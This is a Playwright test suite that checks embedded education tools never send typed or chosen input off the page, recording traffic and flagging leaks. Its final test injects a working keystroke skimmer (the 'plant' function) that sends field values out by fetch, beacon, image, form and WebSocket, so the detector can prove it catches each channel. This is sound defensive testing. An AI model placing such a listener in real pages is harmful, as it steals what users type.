import { type CatalogTool, tools } from "@iep-insider/sdk/catalog";
import type { Locator, Page } from "@playwright/test";
import { comeTo } from "./fixtures/opened.ts";
import type { Origins } from "./fixtures/servers.ts";
import { listenForSockets } from "./fixtures/sockets.ts";
import { expect, test } from "./fixtures/test.ts";
import { forbidden, isCountRequest, recordTraffic, type SentRequest } from "./fixtures/traffic.ts";
import { type Entered, tryEverything } from "./fixtures/tryEverything.ts";
import { loader, openPage } from "./fixtures/written.ts";

// What is typed, chosen and got in a tool that runs on the device never leaves it (ADR 13). One search for all of
// them: a tool of the catalog that is opened is found here by itself.

// A document is a file, and its tool is always in an iframe: document-reader.spec.ts.
const localTools = tools.filter(({ id, payment }) => payment !== "ai_question" && id !== "document-reader");

test.beforeEach(async ({ page, context }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  // Where the print dialog would come, it is known what was printed.
  await page.addInitScript(() => {
    window.print = () => window.dispatchEvent(new Event("afterprint"));
  });
});

/** Those that differ most in what they do with answers in the dashboard. */
const onOurSite: readonly string[] = ["signing-advisor", "letter-generator", "emotional-checkin"];

/** The requests that hold something typed, or the words of something chosen. */
function leaksOf(sent: readonly SentRequest[], { typed, chosen }: Entered): readonly SentRequest[] {
  // Short words such as "School" or "Yes" also occur in our URLs.
  const words = [...typed, ...chosen.filter((label) => label.length > 12)].map((word) => word.toLowerCase());
  return sent.filter(({ everything }) => {
    const text = everything.toLowerCase();
    return words.some((word) => text.includes(word));
  });
}

/** How often the tool was counted as started and as finished. */
const courseOf = (sent: readonly SentRequest[], { id }: CatalogTool) =>
  sent
    .filter((request) => isCountRequest(request) && request.body?.includes(`"${id}"`))
    .flatMap(({ body }) => /"tool_(start|complete)"/.exec(body ?? "")?.[1] ?? [])
    .sort();

/** Uses all there is in a tool. */
async function tryAll(page: Page, area: Locator): Promise<Entered> {
  await expect(area.locator(":is(button, select, input):visible").first()).toBeVisible();
  const entered = await tryEverything(area, page);
  expect(entered.taken.length, "something was taken away").toBeGreaterThan(0);
  expect(entered.chosen.length + entered.typed.length, "something went in").toBeGreaterThan(0);
  return entered;
}

function expectNoLeak(sent: readonly SentRequest[], entered: Entered, origins: Origins): void {
  expect(leaksOf(sent, entered).map(({ url }) => url)).toEqual([]);
  expect(forbidden(sent, origins).map(({ url }) => url)).toEqual([]);
}

for (const half of [0, 1])
  test(`nothing that goes into a local tool, or comes out of it, leaves a partner's page: half ${half + 1} of all`, async ({
    page,
    origins,
  }) => {
    const here = localTools.filter((_, index) => index % 2 === half);
    await openPage(page, origins, loader(origins) + here.map(({ tag }) => `<${tag}></${tag}>`).join(""));
    // The last that comes: before it, a tool may be its pre-rendered screen, which keeps a press for later.
    for (const { tag } of here)
      await comeTo(page.locator(tag), page.locator(tag).getByRole("button", { name: "Español" }));
    const traffic = recordTraffic(page);
    for (const { title, tag } of here)
      await test.step(title, async () => {
        const entered = await tryAll(page, page.locator(tag));
        expectNoLeak(await traffic.sent(), entered, origins);
      });
    // Counts wait two seconds (ADR 14). One opening counts once, whatever is done in it.
    for (const tool of here)
      await expect
        .poll(async () => courseOf(await traffic.sent(), tool), tool.title)
        .toEqual(["complete", "start"]);
    expectNoLeak(await traffic.sent(), { typed: ["Zqxmark"], chosen: [], taken: [] }, origins);
  });

test("nor what goes into tools with drafts, letters or check-ins on our site", { tag: "@full" }, async ({
  page,
  origins,
}) => {
  for (const tool of localTools.filter(({ id }) => onOurSite.includes(id)))
    await test.step(tool.title, async () => {
      await page.goto(`${origins.product}/advanced-tools?tool=${tool.id}`);
      const traffic = recordTraffic(page);
      const entered = await tryAll(page, page.getByRole("main").locator(".iep-tool"));
      await expect.poll(async () => courseOf(await traffic.sent(), tool)).toEqual(["complete", "start"]);
      expectNoLeak(await traffic.sent(), entered, origins);
    });
});

/** What a page around a tool could do: a shadow root that is open hides nothing, so the search has to see it all. */
const plantedLeaks = ["fetch", "beacon", "image", "form", "websocket"] as const;

test("the same search finds every leak planted around a tool", async ({ page, origins, consoleMessages }) => {
  const sockets = await listenForSockets();
  await openPage(page, origins, `${loader(origins)}<iep-letter-generator></iep-letter-generator>`);
  await expect(page.getByRole("combobox").first()).toBeVisible();
  const traffic = recordTraffic(page);
  await page.evaluate(plant, { product: origins.product, socket: sockets.address });

  const entered = await tryEverything(page.locator("iep-letter-generator"), page);

  await expect
    .poll(async () => {
      const leaks = leaksOf(await traffic.sent(), entered);
      return plantedLeaks.filter((kind) => leaks.some(({ url }) => url.includes(`planted-${kind}`)));
    })
    .toEqual(plantedLeaks);
  const sent = await traffic.sent();
  const notAllowed = forbidden(sent, origins).map(({ url }) => url);
  for (const kind of plantedLeaks)
    expect(
      notAllowed.some((url) => url.includes(`planted-${kind}`)),
      kind,
    ).toBe(true);
  await sockets.close();
  // The addresses lead nowhere, and the browser says so.
  consoleMessages.allow(/./);
});

/** Runs in the page: sends what is typed, in five ways and as many disguises. */
function plant({ product, socket }: { product: string; socket: string }): void {
  const open = new WebSocket(`${socket}/planted-websocket`);
  document.addEventListener("input", (event) => {
    const [field] = event.composedPath();
    if (!(field instanceof HTMLInputElement || field instanceof HTMLTextAreaElement)) return;
    const { value } = field;
    fetch(`${product}/planted-fetch`, { method: "POST", mode: "no-cors", body: JSON.stringify({ value }) });
    navigator.sendBeacon(`${product}/planted-beacon`, btoa(value));
    new Image().src = `${product}/planted-image?q=${encodeURIComponent(value)}`;
    const frame = document.createElement("iframe");
    frame.name = `frame${Math.random()}`;
    const form = document.createElement("form");
    form.target = frame.name;
    form.action = `${product}/planted-form`;
    form.append(Object.assign(document.createElement("input"), { name: "q", value }));
    document.body.append(frame, form);
    form.submit();
    const hex = [...new TextEncoder().encode(value)]
      .map((byte) => byte.toString(16).padStart(2, "0"))
      .join("");
    if (open.readyState === WebSocket.OPEN) open.send(hex);
  });
}
